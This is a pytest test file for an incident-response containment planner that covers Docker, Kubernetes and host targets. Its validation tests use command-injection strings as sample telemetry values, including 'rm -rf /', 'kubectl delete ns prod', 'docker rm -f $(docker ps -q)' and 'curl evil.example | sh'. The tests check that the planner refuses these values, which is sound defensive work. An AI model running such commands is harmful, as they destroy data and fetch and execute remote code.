"""The containment planner: ordered actions with reasons, Kubernetes manifests that the API's
schema accepts, and telemetry that never becomes a handle or a command unless it is well formed."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from tests.respond import alerts
from tidewaiter.respond import manifests
from tidewaiter.respond.planner import PlanOptions, plan
from tidewaiter.respond.protect import Protection, ProtectionError, load_protection
from tidewaiter.respond.render import manifests_yaml

GOLDEN = Path(__file__).parent / "golden"


def test_docker_plan_disconnects_then_pauses_and_leaves_stop_to_a_person() -> None:
    result = plan(alerts.container())

    assert result.target.platform == "docker"
    assert [(a.kind, a.manual) for a in result.actions] == [
        ("disconnect", False),
        ("pause", False),
        ("stop", True),
    ]
    assert all(a.reason for a in result.actions)
    assert all(a.target == f"container {alerts.CONTAINER[:31]}" for a in result.actions)
    assert not result.problems
    assert result.protected is None


def test_docker_plan_with_evidence_and_stop_takes_evidence_before_stopping() -> None:
    result = plan(alerts.container(), PlanOptions(evidence_dir="/srv/evidence", stop=True))

    assert [(a.kind, a.manual) for a in result.actions] == [
        ("disconnect", False),
        ("pause", False),
        ("export", False),
        ("inspect", False),
        ("stop", False),
    ]
    assert "/srv/evidence" in result.actions[2].reason


def test_kubernetes_plan_applies_the_policy_then_labels_the_pod() -> None:
    result = plan(alerts.pod())

    assert result.target.platform == "kubernetes"
    assert [(a.kind, a.manual) for a in result.actions] == [
        ("apply-network-policy", False),
        ("label-pod", False),
        ("debug", True),
    ]
    debug = result.actions[2].guidance or ""
    assert debug.startswith("kubectl debug -n payments api-7d9f8b6c5-x2kqz")
    assert "--target=api" in debug


def test_kubernetes_manifests_match_the_golden_file() -> None:
    expected = (GOLDEN / "kubernetes-quarantine.yaml").read_text()
    assert manifests_yaml(plan(alerts.pod())) == expected


@pytest.mark.parametrize(
    ("kind", "model"), [("NetworkPolicy", client.V1NetworkPolicy), ("Pod", client.V1Pod)]
)
def test_kubernetes_manifests_are_valid_against_the_api_schema(kind: str, model: Any) -> None:
    manifest = next(m for m in plan(alerts.pod()).manifests if m["kind"] == kind)

    parsed = model.model_validate(manifest)  # the client's models forbid unknown fields

    assert client.ApiClient().sanitize_for_serialization(parsed) == manifest


def test_the_policy_denies_all_egress_of_exactly_the_labelled_pod() -> None:
    result = plan(alerts.pod())
    policy = next(m for m in result.manifests if m["kind"] == "NetworkPolicy")
    patch = next(m for m in result.manifests if m["kind"] == "Pod")

    assert policy["spec"]["policyTypes"] == ["Egress"]
    assert policy["spec"]["egress"] == []
    assert "ingress" not in policy["spec"]
    assert policy["spec"]["podSelector"] == {"matchLabels": patch["metadata"]["labels"]}
    assert policy["metadata"]["namespace"] == patch["metadata"]["namespace"] == "payments"


def test_every_finding_for_one_pod_names_the_same_policy_and_other_pods_another() -> None:
    first = plan(alerts.pod())
    again = plan(alerts.with_uid(alerts.pod(), "0" * 32))
    sibling = plan(alerts.pod(name="api-7d9f8b6c5-zzzzz"))

    def name(p: Any) -> str:
        return str(p.manifests[0]["metadata"]["name"])

    assert name(first) == name(again)
    assert name(first) != name(sibling)


@pytest.mark.parametrize(
    ("namespace", "pod"),
    [
        ("payments", "api; kubectl delete ns prod"),
        ("payments", "$(curl evil.example)"),
        ("Payments", "api"),
        ("payments", "-n kube-system"),
        ("pay ments", "api"),
        ("payments", "a" * 254),
    ],
)
def test_kubernetes_names_that_break_kubernetes_rules_are_refused(namespace: str, pod: str) -> None:
    result = plan(alerts.pod(namespace=namespace, name=pod))

    assert result.problems
    assert result.actions == []
    assert result.manifests == []


@pytest.mark.parametrize(
    "uid", ["$(reboot)", "abc", "4f1c2b9e7d6a;rm -rf /", "name-of-a-container"]
)
def test_a_container_id_that_is_not_hex_is_never_a_handle(uid: str) -> None:
    result = plan(alerts.container(uid=uid))

    assert result.problems
    assert all(uid not in (a.guidance or "") for a in result.actions)


def test_names_and_images_from_telemetry_are_display_only() -> None:
    alert = alerts.container(image="evil\x1b[2J:latest")
    alert["device"]["container"]["name"] = "x; docker rm -f $(docker ps -q)"

    result = plan(alert)

    for action in result.actions:
        assert "docker rm" not in action.target + action.reason + (action.guidance or "")
        assert "evil" not in action.target + action.reason + (action.guidance or "")
    assert result.target.container_name == "x; docker rm -f $(docker ps -q)"  # shown, quoted


def test_a_host_gets_guidance_only_built_from_checked_values() -> None:
    result = plan(alerts.host())

    assert result.target.platform == "host"
    assert all(a.manual for a in result.actions)
    kinds = [(a.kind, a.target) for a in result.actions]
    assert ("stop-process", "pid 4112 (tar) on node-1") in kinds
    assert ("block-connection", "203.0.113.9:443 from node-1") in kinds
    block = next(a for a in result.actions if a.kind == "block-connection")
    assert "ip daddr 203.0.113.9 tcp dport 443 drop" in (block.guidance or "")


def test_a_windows_host_gets_windows_guidance() -> None:
    result = plan(alerts.host(windows=True))

    guidance = [a.guidance or "" for a in result.actions]
    assert "Stop-Process -Id 4120 -Force" in guidance
    assert any("New-NetFirewallRule" in g and "-RemoteAddress 203.0.113.9" in g for g in guidance)


def test_a_destination_that_is_not_an_address_gets_no_firewall_command() -> None:
    alert = alerts.host()
    alert["evidences"][1]["dst_endpoint"] = {"ip": "203.0.113.9; curl evil.example | sh"}

    result = plan(alert)

    assert not [a for a in result.actions if a.kind == "block-connection"]
    assert all("evil" not in (a.guidance or "") for a in result.actions)


@pytest.mark.parametrize(
    ("alert", "why"),
    [
        (alerts.pod(namespace="kube-system", name="coredns-5d78c9869d-abcde"), "kube-system"),
        (alerts.container(image="quay.io/cilium/cilium:v1.15.1"), "cilium"),
        (alerts.container(image="ghcr.io/acme/tidewaiter:0.1"), "tidewaiter"),
    ],
)
def test_protected_workloads_are_marked(alert: dict[str, Any], why: str) -> None:
    assert why in (plan(alert).protected or "")


def test_an_ordinary_workload_is_not_protected() -> None:
    assert plan(alerts.pod()).protected is None


def test_a_protection_file_replaces_the_defaults_it_names(tmp_path: Path) -> None:
    path = tmp_path / "protected.yaml"
    path.write_text("namespaces: [payments]\n")

    protection = load_protection(path)

    assert "payments" in (plan(alerts.pod(), protection=protection).protected or "")
    assert protection.images == Protection().images  # left out: the defaults stay


def test_a_bad_protection_file_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "protected.yaml"
    path.write_text("namespace: [payments]\n")

    with pytest.raises(ProtectionError, match=r"protected\.yaml"):
        load_protection(path)


def test_a_label_value_is_a_valid_kubernetes_label() -> None:
    value = manifests.quarantine_value("payments", "api-7d9f8b6c5-x2kqz")
    assert len(value) <= 63
    assert manifests.valid_namespace(value)


def test_a_protected_name_outside_the_components_namespaces_is_not_protected() -> None:
    # A tenant names its pod like a cluster component: it must not escape containment by that.
    assert plan(alerts.pod(namespace="payments", name="kube-proxy-evil")).protected is None
    assert plan(alerts.pod(namespace="shop", name="falco-7c9d8")).protected is None


def test_a_name_scoped_to_a_namespace_protects_it_there_only(tmp_path: Path) -> None:
    path = tmp_path / "protected.yaml"
    path.write_text("names: ['monitoring/falco*']\n")
    protection = load_protection(path)

    here = plan(alerts.pod(namespace="monitoring", name="falco-x2k4p"), protection=protection)
    elsewhere = plan(alerts.pod(namespace="payments", name="falco-x2k4p"), protection=protection)

    assert "monitoring/falco*" in (here.protected or "")
    assert elsewhere.protected is None


def test_bare_names_still_protect_containers_of_a_host_without_namespaces() -> None:
    alert = alerts.container()
    alert["device"]["container"]["name"] = "falco"
    assert "falco*" in (plan(alert).protected or "")
